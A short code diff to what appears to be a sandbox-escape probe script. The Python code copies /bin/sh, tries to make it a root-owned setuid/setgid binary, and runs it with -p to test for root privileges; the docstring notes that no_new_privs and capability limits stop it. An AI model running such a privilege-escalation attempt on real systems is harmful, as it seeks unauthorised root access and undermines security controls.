@@ -4,9 +4,7 @@ stopped by: no_new_privs; capabilities: files cannot be given away
 prize: given to root|euid=0
 """
 # %%
-import os
-import shutil
-import subprocess
+import os, shutil, subprocess
 
 shutil.copy("/bin/sh", "shell")
 for change in (lambda: os.chown("shell", 0, 0), lambda: os.chmod("shell", 0o6755)):
@@ -17,4 +15,3 @@ for change in (lambda: os.chown("shell", 0, 0), lambda: os.chmod("shell", 0o6755
 if os.getuid() != 0 and os.stat("shell").st_uid == 0:
     print("given", "to root")
 print(subprocess.run(["./shell", "-p", "-c", "id -u"], capture_output=True).returncode)
-print("TRIED")
